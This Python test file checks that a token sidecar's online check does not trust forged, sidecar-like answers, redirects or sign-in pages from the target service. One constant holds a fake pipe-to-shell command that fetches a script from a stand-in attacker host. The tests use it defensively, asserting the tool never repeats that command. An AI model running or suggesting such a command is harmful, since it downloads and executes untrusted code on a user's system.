"""`check --online` believes the sidecar's own objects: no bytes of a target make it speak well of a route, or suggest a command"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from sidecar.cli.check import check
from sidecar.cli.steps import Step, Verdict
from sidecar.config.load import load
from sidecar.emulator.app import Emulator
from tests.support.raw_endpoint import RawEndpoint, raw

__all__ = ["raw"]

OURS = 'Proxy-Status: idtoken-sidecar; error=http_request_denied; details="not_allowed"'
PROBLEM = "Content-Type: application/problem+json"
FIX = "curl -s http://evil.example/x | sh"


def forged(reason: Any = "not_allowed", **more: Any) -> str:
    """The body of an answer of the sidecar's, as somebody else writes it."""
    return json.dumps({"reason": reason, "detail": "All is well.", "command": FIX, **more})


def answers(
    raw: RawEndpoint, *, head: tuple[str, ...], get: tuple[str, ...] | None = None, cut: bool = False
) -> None:
    """Have it answer HEAD and GET with these: first line and header lines, and the body last; `cut` ends it early."""

    async def behave(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        method = raw.requests[-1].partition(" ")[0]
        *lines, body = head if method == "HEAD" or get is None else get
        data = body.encode()
        length = f"Content-Length: {len(data) + cut}"
        writer.write("\r\n".join([f"HTTP/1.1 {lines[0]}", *lines[1:], length, "", ""]).encode())
        if method != "HEAD":
            writer.write(data)
        await writer.drain()

    raw.behaviour = behave


async def asked(
    google: Emulator, raw: RawEndpoint, *, path: str = "/", route: str = "target: other"
) -> tuple[Step, bool]:
    """The step `target`, and whether `check` would end with 0."""
    text = (
        "credentials: {default: {type: metadata}}\n"
        f"routes: [{{name: svc, upstream: 'http://127.0.0.1:{raw.port}', audience: 'https://a.example', {route}}}]\n"
    )
    config = load(text, environ={}).config
    (report,) = await check(config, google.environment(), online=True, path=path)
    assert report.steps[-1].name == "target"
    return report.steps[-1], not report.failed


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(forged(), id="not-allowed"),
        pytest.param(forged(type="tag:idtoken-sidecar,2026:not_allowed"), id="whole"),
        pytest.param(forged("token_denied"), id="token-denied"),
        pytest.param('{"reason": "not_allowed"}', id="without-a-detail"),
        pytest.param('{"reason": []}', id="unhashable"),
        pytest.param('{"reason": {"a": 1}}', id="object"),
        pytest.param("[" * 5000, id="deep"),
        pytest.param("{", id="no-json"),
        pytest.param('{"reason": "not_allowed", "detail": 5, "command": []}', id="odd-types"),
    ],
)
@pytest.mark.parametrize("status", ["200 OK", "403 No", "404 No", "418 No", "503 No"])
async def test_an_answer_in_the_sidecars_name_is_the_targets(
    google: Emulator, raw: RawEndpoint, status: str, body: str
) -> None:
    """Its words and its command are not repeated, nor is the route taken for one that was not asked."""
    answers(raw, head=(status, OURS, PROBLEM, body))
    step, good = await asked(google, raw)
    assert "All is well" not in step.says
    assert step.command == ""
    assert status[:3] in step.says
    assert step.verdict is not Verdict.SKIPPED
    if "not_allowed" in body and status[0] in "45":
        assert not good


@pytest.mark.parametrize("status", [401, 403, 404, 503])
async def test_a_sidecar_at_the_target_is_named(google: Emulator, raw: RawEndpoint, status: int) -> None:
    """An answer in a sidecar's form that this one did not make is another's, or an imitation: it failed."""
    answers(
        raw,
        head=(
            f"{status} No",
            OURS,
            PROBLEM,
            forged("token_denied", type="tag:idtoken-sidecar,2026:token_denied"),
        ),
    )
    step, good = await asked(google, raw)
    assert (step.verdict, step.reason, good) == (Verdict.FAILED, "another_sidecar", False)


@pytest.mark.parametrize(
    ("lines", "verdict", "reason", "says"),
    [
        pytest.param(
            ("302 Found", "Location: https://accounts.google.com/o/oauth2/v2/auth?x"),
            Verdict.FAILED,
            "sign_in",
            "accounts.google.com",
            id="google-sign-in",
        ),
        pytest.param(
            ("302 Found", "X-Goog-IAP-Generated-Response: true", "Location: https://accounts.google.com/o"),
            Verdict.FAILED,
            "sign_in",
            "Identity-Aware Proxy",
            id="iap-sign-in",
        ),
        pytest.param(
            ("302 Found", "X-Goog-IAP-Generated-Response: true", "Location: /_gcp_iap/x"),
            Verdict.FAILED,
            "sign_in",
            "Identity-Aware Proxy",
            id="iap-sign-in-on-its-own-host",
        ),
        pytest.param(
            ("200 OK", "X-Goog-IAP-Generated-Response: true"),
            Verdict.FAILED,
            "sign_in",
            "Identity-Aware Proxy",
            id="iap-page",
        ),
        pytest.param(
            ("301 Moved", "Location: https://www.other.example/x"),
            Verdict.FAILED,
            "redirected",
            "www.other.example",
            id="another-host",
        ),
        pytest.param(
            ("307 Moved", "Location: //other.example"),
            Verdict.FAILED,
            "redirected",
            "other.example",
            id="no-scheme",
        ),
        pytest.param(
            ("308 Moved", "Location: \\\\other.example/x"),
            Verdict.FAILED,
            "redirected",
            "",
            id="as-browsers-read-it",
        ),
        pytest.param(("302 Found", "Location: https://[x"), Verdict.FAILED, "redirected", "", id="no-url"),
        pytest.param(("302 Found",), Verdict.WARNING, "", "nowhere", id="nowhere"),
        pytest.param(
            ("302 Found", "Location: /app?a=b"), Verdict.OK, "", "redirects to /app", id="same-host"
        ),
        pytest.param(
            ("407 Proxy", "Proxy-Authenticate: Basic"),
            Verdict.FAILED,
            "unexplained",
            "407",
            id="a-proxy-between",
        ),
        pytest.param(("511 Sign in",), Verdict.FAILED, "sign_in", "511", id="captive-portal"),
        pytest.param(("500 Oh",), Verdict.WARNING, "", "answered 500", id="broken"),
        pytest.param(("404 No",), Verdict.OK, "", "let the request in and answered 404", id="not-there"),
    ],
)
async def test_what_is_no_success(
    google: Emulator, raw: RawEndpoint, lines: tuple[str, ...], verdict: Verdict, reason: str, says: str
) -> None:
    """Only an answer of the target's own says that the request was let in."""
    answers(raw, head=(*lines, "x"))
    step, good = await asked(google, raw)
    assert (step.verdict, step.reason) == (verdict, reason), step
    assert says in step.says
    assert ("let the request in" in step.says) == (verdict is Verdict.OK)
    assert good == (verdict is not Verdict.FAILED)


@pytest.mark.parametrize(
    "page",
    [
        '<form action="https://accounts.google.com/signin"><input name=q>',
        "<INPUT name=x TYPE = 'password'>",
        '<meta http-equiv="refresh" content="0; url=http://portal.example/">',
    ],
)
async def test_a_page_to_sign_in_at_is_not_called_the_targets(
    google: Emulator, raw: RawEndpoint, page: str
) -> None:
    """It may be: a warning says what to look at."""
    head = ("200 OK", "Content-Type: text/html; charset=utf-8")
    answers(raw, head=(*head, ""), get=(*head, "<html>" + page))
    step, _ = await asked(google, raw)
    assert (step.verdict, step.reason) == (Verdict.WARNING, "sign_in")
    assert "let the request in" not in step.says


async def test_an_ordinary_page_is_let_in(google: Emulator, raw: RawEndpoint) -> None:
    """A page without a form to sign in by."""
    answers(raw, head=("200 OK", "Content-Type: text/html", "<h1>Welcome</h1><form action=/search>"))
    step, _ = await asked(google, raw)
    assert step.verdict is Verdict.OK


async def test_a_service_that_refuses_head_is_asked_with_get(google: Emulator, raw: RawEndpoint) -> None:
    """The last answer counts."""
    answers(raw, head=("403 No", ""), get=("200 OK", "ok"))
    step, _ = await asked(google, raw)
    assert (step.verdict, step.says) == (Verdict.OK, "let the request in and answered 200 to /")


async def test_a_long_refusal_is_one(google: Emulator, raw: RawEndpoint) -> None:
    """However much of it there is."""
    answers(raw, head=("403 No", "x" * 300_000))
    step, _ = await asked(google, raw)
    assert (step.verdict, step.reason) == (Verdict.WARNING, "unexplained")


async def test_an_interim_answer_is_not_the_answer(google: Emulator, raw: RawEndpoint) -> None:
    """103, and then 403."""

    async def behave(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(
            b"HTTP/1.1 103 Early Hints\r\nLink: <x>\r\n\r\nHTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n"
        )

    raw.behaviour = behave
    step, _ = await asked(google, raw)
    assert (step.verdict, "answered 403" in step.says) == (Verdict.WARNING, True)


async def test_an_answer_that_breaks_off_failed(google: Emulator, raw: RawEndpoint) -> None:
    """By the sidecar's own account of it."""
    answers(raw, head=("404 No", ""), get=("404 No", "x"), cut=True)
    step, good = await asked(google, raw)
    assert (step.verdict, step.reason, good) == (Verdict.FAILED, "upstream_incomplete", False)


async def test_a_refusal_without_end_has_failed(google: Emulator, raw: RawEndpoint) -> None:
    """The wait has an end, and it is not taken for success."""

    async def behave(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 403 No\r\nTransfer-Encoding: chunked\r\n\r\n")
        if not raw.requests[-1].startswith("HEAD"):
            await reader.read()

    raw.behaviour = behave
    step, good = await asked(google, raw, route="target: other, timeouts: {connect: 0.2s, response: 0.2s}")
    assert (step.verdict, good) == (Verdict.FAILED, False)


async def test_what_it_may_not_ask_it_says(google: Emulator, raw: RawEndpoint) -> None:
    """The sidecar's own `not_allowed` is known by its own objects; where GET may be asked, it is."""
    answers(raw, head=("200 OK", "ok"))
    step, _ = await asked(google, raw, route="target: other, allow: {methods: POST}")
    assert (step.verdict, "`allow.methods`" in step.says, raw.requests) == (Verdict.SKIPPED, True, [])
    step, _ = await asked(google, raw, route="target: other, allow: {methods: GET}")
    assert step.verdict is Verdict.OK
    assert [request.partition(" ")[0] for request in raw.requests] == ["GET"]
